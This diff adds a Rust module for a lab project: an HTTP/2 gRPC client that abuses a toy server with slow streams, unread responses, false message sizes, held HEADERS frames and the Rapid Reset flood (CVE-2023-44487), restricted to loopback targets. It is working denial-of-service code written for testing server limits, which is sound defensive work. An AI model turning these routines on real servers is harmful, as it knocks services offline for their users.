@@ -1,0 +1,364 @@
+//! An abusive HTTP/2 client, bounded and loopback-only, to show what the toy
+//! server's limits are for.
+//!
+//! Each [`AttackKind`] is one way a client can make a server hold memory, or
+//! one of the floods h2 itself sheds. An attack opens `connections`
+//! connections and abuses them until its duration or its stream count runs
+//! out, whichever comes first, then closes everything. It refuses any target
+//! outside 127.0.0.0/8 and ::1.
+
+use std::net::SocketAddr;
+use std::time::Duration;
+
+use bytes::{BufMut, Bytes, BytesMut};
+use serde::{Deserialize, Serialize};
+use tokio::io::AsyncWriteExt;
+use tokio::net::TcpStream;
+use tokio::time::Instant;
+
+/// One way of abusing a gRPC server.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
+#[serde(rename_all = "kebab-case")]
+pub enum AttackKind {
+    /// Streams whose headers are sent and whose request never is.
+    SlowStreams,
+    /// Calls asking for large responses on streams whose flow-control window is zero, never read.
+    UnreadResponses,
+    /// Streams that declare a message near the server's maximum and send a few bytes of it.
+    DeclaredSize,
+    /// A HEADERS frame without END_HEADERS on each connection, its CONTINUATION never sent.
+    HeldHeaders,
+    /// Streams opened and at once reset (CVE-2023-44487), which h2 sheds with GOAWAY.
+    RapidReset,
+}
+
+impl AttackKind {
+    pub const ALL: [AttackKind; 5] = [
+        AttackKind::SlowStreams,
+        AttackKind::UnreadResponses,
+        AttackKind::DeclaredSize,
+        AttackKind::HeldHeaders,
+        AttackKind::RapidReset,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            AttackKind::SlowStreams => "slow-streams",
+            AttackKind::UnreadResponses => "unread-responses",
+            AttackKind::DeclaredSize => "declared-size",
+            AttackKind::HeldHeaders => "held-headers",
+            AttackKind::RapidReset => "rapid-reset",
+        }
+    }
+}
+
+/// An attack, bounded in time and in streams.
+#[derive(Debug, Clone, PartialEq)]
+pub struct AttackPlan {
+    pub kind: AttackKind,
+    pub target: SocketAddr,
+    /// Connections opened at the start (rapid reset dials again when one is closed).
+    pub connections: u32,
+    /// The attack ends this long after it starts.
+    pub duration: Duration,
+    /// Streams opened over all connections, at most.
+    pub max_streams: u64,
+    /// `unread-responses`: the response size each call asks for.
+    pub response_bytes: u32,
+    /// `declared-size`: the message length each stream declares.
+    pub declared_bytes: u32,
+}
+
+/// What an attack did, and what the server did to it.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
+pub struct AttackReport {
+    pub kind: Option<AttackKind>,
+    /// Connections dialled.
+    pub connections: u64,
+    /// Streams opened.
+    pub streams_opened: u64,
+    /// Streams the server reset (RST_STREAM) while the attack held them, refused ones not included.
+    pub streams_reset: u64,
+    /// Streams the server refused (RST_STREAM REFUSED_STREAM): opened beyond its stream limit before
+    /// its SETTINGS arrived.
+    pub streams_refused: u64,
+    /// Streams the server answered with a response.
+    pub streams_answered: u64,
+    /// Connections the server ended (GOAWAY or close) before the attack did.
+    pub connections_ended: u64,
+    /// The largest number of streams the attack held open at once on all its connections.
+    pub peak_held: u64,
+}
+
+/// Fails unless `target` is on loopback.
+pub fn check_target(target: SocketAddr) -> Result<(), String> {
+    if target.ip().is_loopback() {
+        Ok(())
+    } else {
+        Err(format!("attack target {target}: not a loopback address (127.0.0.0/8 or ::1); attacks stay on this machine"))
+    }
+}
+
+/// Runs the attack to its end and reports it.
+pub async fn run(plan: &AttackPlan) -> Result<AttackReport, String> {
+    check_target(plan.target)?;
+    let ends = Instant::now() + plan.duration;
+    let per_connection = plan.max_streams.div_ceil(u64::from(plan.connections.max(1)));
+    let attacks = (0..plan.connections.max(1)).map(|_| {
+        let plan = plan.clone();
+        tokio::spawn(async move { one_connection(&plan, ends, per_connection).await })
+    });
+    let mut report = AttackReport { kind: Some(plan.kind), ..AttackReport::default() };
+    let mut peak = 0;
+    for attack in attacks.collect::<Vec<_>>() {
+        let one = attack.await.map_err(|error| format!("attack task failed: {error}"))??;
+        report.connections += one.connections;
+        report.streams_opened += one.streams_opened;
+        report.streams_reset += one.streams_reset;
+        report.streams_refused += one.streams_refused;
+        report.streams_answered += one.streams_answered;
+        report.connections_ended += one.connections_ended;
+        peak += one.peak_held;
+    }
+    report.peak_held = peak;
+    Ok(report)
+}
+
+/// One connection's share of the attack (with rapid reset: one after another until the share is spent).
+async fn one_connection(plan: &AttackPlan, ends: Instant, streams: u64) -> Result<AttackReport, String> {
+    let mut report = AttackReport::default();
+    while report.streams_opened < streams && Instant::now() < ends {
+        report.connections += 1;
+        let ended = match plan.kind {
+            AttackKind::HeldHeaders => held_headers(plan.target, ends, &mut report).await?,
+            AttackKind::RapidReset => rapid_reset(plan.target, ends, streams, &mut report).await?,
+            _ => abuse(plan, ends, streams, &mut report).await?,
+        };
+        if !ended {
+            break;
+        }
+        report.connections_ended += 1;
+        if plan.kind != AttackKind::RapidReset {
+            break;
+        }
+    }
+    Ok(report)
+}
+
+/// How a held stream ended.
+#[derive(Debug, Clone, Copy, Default)]
+struct Outcome {
+    answered: bool,
+    reset: Option<h2::Reason>,
+}
+
+/// Holds a stream (and what is left to send on it) until the server resets it or the attack ends.
+async fn hold(response: h2::client::ResponseFuture, send: Option<h2::SendStream<Bytes>>) -> Outcome {
+    let _unfinished = send;
+    let response = match response.await {
+        Ok(response) => response,
+        Err(error) => return Outcome { answered: false, reset: error.reason() },
+    };
+    // The body stays unread: dropping it would cancel the stream and free the server.
+    let mut body = response.into_body();
+    loop {
+        match body.data().await {
+            Some(Ok(_)) => {}
+            Some(Err(error)) => return Outcome { answered: true, reset: error.reason() },
+            None => return Outcome { answered: true, reset: None },
+        }
+    }
+}
+
+/// Abuses one connection; returns whether the server ended it.
+async fn abuse(plan: &AttackPlan, ends: Instant, streams: u64, report: &mut AttackReport) -> Result<bool, String> {
+    let tcp = connect(plan.target).await?;
+    let mut builder = h2::client::Builder::new();
+    if plan.kind == AttackKind::UnreadResponses {
+        builder.initial_window_size(0);
+    }
+    let (mut send, connection) =
+        builder.handshake::<_, Bytes>(tcp).await.map_err(|error| format!("attack handshake: {error}"))?;
+    let mut connection = tokio::spawn(connection);
+    let mut held = tokio::task::JoinSet::new();
+    let uri = format!("http://{}/leaklab.v1.Echo/Unary", plan.target);
+    let unread_request = grpc_message(
+        &prost::Message::encode_to_vec(&leaklab_proto::EchoRequest {
+            response_bytes: plan.response_bytes,
+            ..Default::default()
+        }),
+    );
+    let mut declared = BytesMut::new();
+    declared.put_u8(0);
+    declared.put_u32(plan.declared_bytes);
+    declared.put_slice(&[0x0a; 16]);
+    let declared = declared.freeze();
+    let count = |outcome: Outcome, report: &mut AttackReport| {
+        report.streams_answered += u64::from(outcome.answered);
+        match outcome.reset {
+            Some(h2::Reason::REFUSED_STREAM) => report.streams_refused += 1,
+            Some(_) => report.streams_reset += 1,
+            None => {}
+        }
+    };
+    let mut ended = false;
+    // Hold what was opened until the attack ends, the server ends the connection, or nothing is left to hold.
+    while report.streams_opened < streams || !held.is_empty() {
+        tokio::select! {
+            biased;
+            _ = &mut connection => {
+                ended = true;
+                break;
+            }
+            () = tokio::time::sleep_until(ends) => break,
+            Some(done) = held.join_next() => {
+                if let Ok(outcome) = done {
+                    count(outcome, report);
+                }
+            }
+            ready = std::future::poll_fn(|cx| send.poll_ready(cx)), if report.streams_opened < streams => {
+                if ready.is_err() {
+                    ended = true;
+                    break;
+                }
+                let request = tonic::codegen::http::Request::post(&uri)
+                    .header("content-type", "application/grpc")
+                    .header("te", "trailers")
+                    .body(())
+                    .expect("a valid request");
+                let Ok((response, mut stream)) = send.send_request(request, false) else {
+                    ended = true;
+                    break;
+                };
+                report.streams_opened += 1;
+                match plan.kind {
+                    AttackKind::SlowStreams => {
+                        held.spawn(hold(response, Some(stream)));
+                    }
+                    AttackKind::DeclaredSize => {
+                        let _ = stream.send_data(declared.clone(), false);
+                        held.spawn(hold(response, Some(stream)));
+                    }
+                    AttackKind::UnreadResponses => {
+                        let _ = stream.send_data(unread_request.clone(), true);
+                        held.spawn(hold(response, None));
+                    }
+                    AttackKind::RapidReset | AttackKind::HeldHeaders => unreachable!("written as raw frames"),
+                }
+                report.peak_held = report.peak_held.max(held.len() as u64);
+            }
+        }
+    }
+    while let Some(done) = held.try_join_next() {
+        if let Ok(outcome) = done {
+            count(outcome, report);
+        }
+    }
+    held.abort_all();
+    connection.abort();
+    Ok(ended)
+}
+
+async fn connect(target: SocketAddr) -> Result<TcpStream, String> {
+    TcpStream::connect(target).await.map_err(|error| format!("attack connect to {target}: {error}"))
+}
+
+const SETTINGS: u8 = 0x4;
+const RST_STREAM: u8 = 0x3;
+const END_HEADERS: u8 = 0x4;
+const CANCEL: u32 = 0x8;
+
+/// The client preface and an empty SETTINGS frame.
+fn preface() -> Vec<u8> {
+    let mut bytes = leaklab_server::frames::CLIENT_PREFACE.to_vec();
+    frame(&mut bytes, SETTINGS, 0, 0, &[]);
+    bytes
+}
+
+/// An HPACK block (RFC 7541, no Huffman, no indexing) for a unary Echo call to `authority`.
+fn request_headers(authority: &str) -> Vec<u8> {
+    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table 3 and 6)
+    let mut literal = |name_index: &[u8], value: &[u8]| {
+        block.extend_from_slice(name_index);
+        block.push(value.len() as u8);
+        block.extend_from_slice(value);
+    };
+    literal(&[0x04], b"/leaklab.v1.Echo/Unary"); // :path
+    literal(&[0x01], authority.as_bytes()); // :authority
+    literal(&[0x0f, 0x10], b"application/grpc"); // content-type (index 31)
+    block.extend_from_slice(&[0x00, 2, b't', b'e', 8]);
+    block.extend_from_slice(b"trailers");
+    block
+}
+
+/// Reads from `tcp` until the server closes it or `until` passes; returns whether the server closed it.
+async fn until_closed(tcp: &mut TcpStream, until: Instant) -> bool {
+    let mut buffer = [0u8; 4096];
+    loop {
+        tokio::select! {
+            () = tokio::time::sleep_until(until) => return false,
+            read = tokio::io::AsyncReadExt::read(tcp, &mut buffer) => if matches!(read, Ok(0) | Err(_)) {
+                return true;
+            }
+        }
+    }
+}
+
+/// A HEADERS frame on stream 1 without END_HEADERS, its CONTINUATION never sent; returns whether the
+/// server closed the connection before the attack ended.
+async fn held_headers(target: SocketAddr, ends: Instant, report: &mut AttackReport) -> Result<bool, String> {
+    let mut tcp = connect(target).await?;
+    let mut bytes = preface();
+    let block = request_headers(&target.to_string());
+    frame(&mut bytes, leaklab_server::frames::kind::HEADERS, 0, 1, &block[..block.len() / 2]);
+    tcp.write_all(&bytes).await.map_err(|error| format!("attack write: {error}"))?;
+    report.streams_opened += 1;
+    report.peak_held = 1;
+    Ok(until_closed(&mut tcp, ends).await)
+}
+
+/// HEADERS then RST_STREAM CANCEL, in batches of 100 streams per write, as CVE-2023-44487's clients
+/// send them; returns whether the server ended the connection.
+async fn rapid_reset(target: SocketAddr, ends: Instant, streams: u64, report: &mut AttackReport) -> Result<bool, String> {
+    let tcp = connect(target).await?;
+    let (mut reader, mut writer) = tcp.into_split();
+    writer.write_all(&preface()).await.map_err(|error| format!("attack write: {error}"))?;
+    let block = request_headers(&target.to_string());
+    let mut stream_id: u32 = 1;
+    let mut closed = tokio::spawn(async move {
+        let mut buffer = [0u8; 4096];
+        while let Ok(1..) = tokio::io::AsyncReadExt::read(&mut reader, &mut buffer).await {}
+    });
+    while report.streams_opened < streams && Instant::now() < ends && stream_id < (1 << 31) - 200 {
+        let mut batch = Vec::new();
+        for _ in 0..100.min(streams - report.streams_opened) {
+            frame(&mut batch, leaklab_server::frames::kind::HEADERS, END_HEADERS, stream_id, &block);
+            frame(&mut batch, RST_STREAM, 0, stream_id, &CANCEL.to_be_bytes());
+            stream_id += 2;
+            report.streams_opened += 1;
+        }
+        tokio::select! {
+            _ = &mut closed => return Ok(true),
+            written = writer.write_all(&batch) => if written.is_err() {
+                return Ok(true);
+            }
+        }
+    }
+    Ok(tokio::time::timeout_at(ends, closed).await.is_ok())
+}
+
+fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+    out.extend_from_slice(&[kind, flags]);
+    out.extend_from_slice(&stream.to_be_bytes());
+    out.extend_from_slice(payload);
+}
+
+/// A gRPC message: the flag byte, the length, the bytes.
+fn grpc_message(message: &[u8]) -> Bytes {
+    let mut bytes = BytesMut::with_capacity(5 + message.len());
+    bytes.put_u8(0);
+    bytes.put_u32(message.len() as u32);
+    bytes.put_slice(message);
+    bytes.freeze()
+}
